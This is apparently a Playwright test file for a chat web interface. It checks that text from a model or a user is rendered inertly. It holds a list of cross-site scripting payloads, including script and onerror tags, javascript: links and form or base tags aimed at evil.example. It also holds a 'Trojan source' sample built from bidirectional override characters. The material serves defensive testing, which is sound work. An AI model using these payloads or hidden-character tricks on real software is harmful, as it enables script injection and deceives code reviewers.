"""Nothing that a model or a person writes becomes markup, script or a request."""

import re

import pytest
from playwright.async_api import expect

from tests.adapters.web.page.screen import Screen

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

ATTACKS = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><circle/></svg>",
    "<iframe src=\"javascript:parent.document.title='owned'\"></iframe>",
    "<a href=\"javascript:document.title='owned'\">click</a>",
    "[click](javascript:document.title='owned')",
    "[click](JaVaScRiPt:document.title='owned')",
    "[click](java\tscript:document.title='owned')",
    "[click](&#106;avascript:document.title='owned')",
    "[click](data:text/html,<script>parent.document.title='owned'</script>)",
    "[click](vbscript:document.title)",
    "<javascript:document.title='owned'>",
    "![picture](http://tracker.example/pixel.png?secret)",
    "![picture](javascript:document.title='owned')",
    "[ref]: javascript:document.title='owned'\n\n[ref]",
    "```html\n<script>document.title='owned'</script>\n```",
    "```<img src=x onerror=document.title='owned'>\nx\n```",
    "`<img src=x onerror=document.title='owned'>`",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "| <img src=x onerror=document.title='owned'> |\n|-|\n| <script>document.title='owned'</script> |",
    "<style>*{display:none}</style><form action=http://evil.example><button>go</button></form>",
    "<base href=http://evil.example><link rel=stylesheet href=http://evil.example/x.css>",
    "- [x] <input autofocus onfocus=document.title='owned'>",
    "http://evil.example/\"onmouseover=\"document.title='owned'",
    "\x00<script>\x00document.title='owned'</script>",
]
MARKS = (
    "script, iframe, object, embed, svg, img, style, link, base, form, [onerror], [onload], [onfocus], [onmouseover]"
)


async def test_attacks_are_shown_as_they_were_written(screen: Screen) -> None:
    screen.house.model.says("\n\n".join(ATTACKS))
    screen.house.model.pace = 0.0005
    await screen.asks("\n".join(ATTACKS).replace("\x00", ""))
    await screen.sees_the_end()
    transcript = screen.page.locator("#transcript")
    assert await transcript.locator(MARKS).count() == 0
    for link in await transcript.locator("a").all():
        assert str(await link.get_attribute("href")).startswith(("http://", "https://", "mailto:"))
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    for click in await transcript.get_by_text("click").all():
        await click.click()
    # The beginning of the question is the title of all of it, as text and no more.
    await expect(screen.page).to_have_title(re.compile(r"^<script>document.* · Code Supporter$"))
    listed = screen.page.locator("#conversation-list, .stage header")
    await expect(listed.first).to_contain_text(ATTACKS[0])
    assert await listed.locator(MARKS).count() == 0
    await expect(screen.answer).to_contain_text("<script>document.title='owned'</script>")
    await screen.page.reload()
    await screen.sees("click")
    assert await transcript.locator(MARKS).count() == 0


HARD = {
    "backticks": "`" * 50_000,
    "quotes": "> " * 20_000 + "deep",
    "quotes just bearable": "> " * 99 + "deep",
    "brackets": "[" * 20_000,
    "stars": "*a" * 20_000,
    "lists": "".join(f"{'  ' * n}- {n}\n" for n in range(300)),
    "lists just bearable": "".join(f"{'  ' * n}- {n}\n" for n in range(99)),
    "one line": "word " * 40_000,
    "bidi": "\u202egnp.exe\u202c \u2066left\u2069 \u0627\u0644\u0639",
    "hidden in code": "```\n" + "a\u200b" * 10_000 + "\n```\n`" + "\u202e" * 50_000 + "`",
    "no text": "\u200b\ufeff",
    "carriage returns": "a\r\n\r\n```\r\nb\r\n```\r\nc",
}


async def test_texts_that_are_hard_to_read_are_shown_in_time(screen: Screen) -> None:
    for name, text in HARD.items():
        screen.house.model.says(text)
        await screen.asks(name)
        await screen.sees_the_end()
        assert await screen.answer.text_content(), name
        await screen.button("New conversation").click()


SOURCE = (
    "if level != 'user\u202e \u2066// Check if admin\u2069 \u2066':\n"
    "a\u200bdmin = 'tag\U000e0041\U000e0042\U000e0043\U000e0044 \u3164 \x1b[0m'\n"
    "family = '👩\u200d👧 ❤\ufe0f 🏴󠁧󠁢󠁥󠁮󠁧󠁿 \u0645\u062b\u0627\u0644'\n\treturn"
)
SEEN = ["U+202E", "U+2066", "U+2069", "U+2066", "U+200B", "U+E0041 U+E0042 U+E0043 and 1 more", "U+3164", "U+001B"]
PLACES = """([node, ...words]) => words.map((word) => {
    const walker = document.createTreeWalker(node, NodeFilter.SHOW_TEXT)
    while (walker.nextNode()) {
        const at = walker.currentNode.data.indexOf(word)
        if (at < 0) continue
        const range = document.createRange()
        range.setStart(walker.currentNode, at)
        range.setEnd(walker.currentNode, at + word.length)
        return range.getBoundingClientRect().x
    }
})"""
"""Where words stand on the screen, from its left edge."""


async def _places(screen: Screen, where: str, *words: str) -> list[float]:
    node = await screen.answer.locator(where).first.element_handle()
    places: list[float] = await screen.page.evaluate(PLACES, [node, *words])
    return places


@pytest.mark.parametrize("language", ["python", "", "unheard-of"])
async def test_code_can_not_look_other_than_it_is(screen: Screen, language: str) -> None:
    """A "Trojan source": what stands in a comment for the eye is code for the computer."""
    screen.house.model.says(f"```{language}\n{SOURCE}\n```\n")
    await screen.asks("Go.")
    await screen.sees_the_end()
    code = screen.answer.locator("pre code")
    if language == "python":
        await expect(code.locator(".hljs-keyword").first).to_be_visible()
    marks = code.locator(".hidden-char")
    label = "node => [getComputedStyle(node, '::before').content, node.getBoundingClientRect().width > 20]"
    assert [await mark.evaluate(label) for mark in await marks.all()] == [[f'"{name}"', True] for name in SEEN]
    places = await _places(screen, "pre code", "level", "user", "Check", "admin")
    assert places == sorted(places)
    await screen.button("Copy").click()
    await expect(screen.button("Copied")).to_be_visible()
    assert await screen.page.evaluate("navigator.clipboard.readText()") == SOURCE
    await code.evaluate("node => getSelection().selectAllChildren(node)")
    assert await screen.page.evaluate("getSelection().toString()") == SOURCE


async def test_what_is_hidden_is_marked_also_while_it_is_written(screen: Screen) -> None:
    screen.house.model.says("```\na\u202eb\nmore\n" + "and more\n" * 50 + "```")
    screen.house.model.hold(after=20)
    await screen.asks("Go.")
    await expect(screen.answer.locator(".hidden-char")).to_have_attribute("data-name", "U+202E")
    await expect(screen.button("Stop")).to_be_visible()
    screen.house.model.release()
    await screen.sees_the_end()
    await expect(screen.answer.locator(".hidden-char")).to_have_count(1)


async def test_a_direction_mark_turns_nothing_that_stands_round_it(screen: Screen) -> None:
    screen.house.model.says(
        "First `one\u202e\u2067` then two\n\nopen\u202e\u2067\n\nleft `x` right\n\n- li\u202e\n- kept `y` so"
    )
    await screen.asks("Go.")
    await screen.sees_the_end()
    await expect(screen.answer.locator("p code .hidden-char")).to_have_attribute("data-name", "U+202E U+2067")
    for where, *words in (
        ("p:nth-of-type(1)", "First", "one", "then", "two"),
        ("p:nth-of-type(3)", "left", "x", "right"),
        ("li:nth-of-type(2)", "kept", "y", "so"),
    ):
        places = await _places(screen, where, *words)
        assert places == sorted(places), where


async def test_half_a_character_in_a_question_hurts_nobody(screen: Screen) -> None:
    await screen.question.evaluate("area => { area.value = 'lone \\ud83d surrogate' }")
    await screen.question.press("Enter")
    await screen.sees_the_end()
    assert screen.house.model.asked[-1].text == "lone \ufffd surrogate"
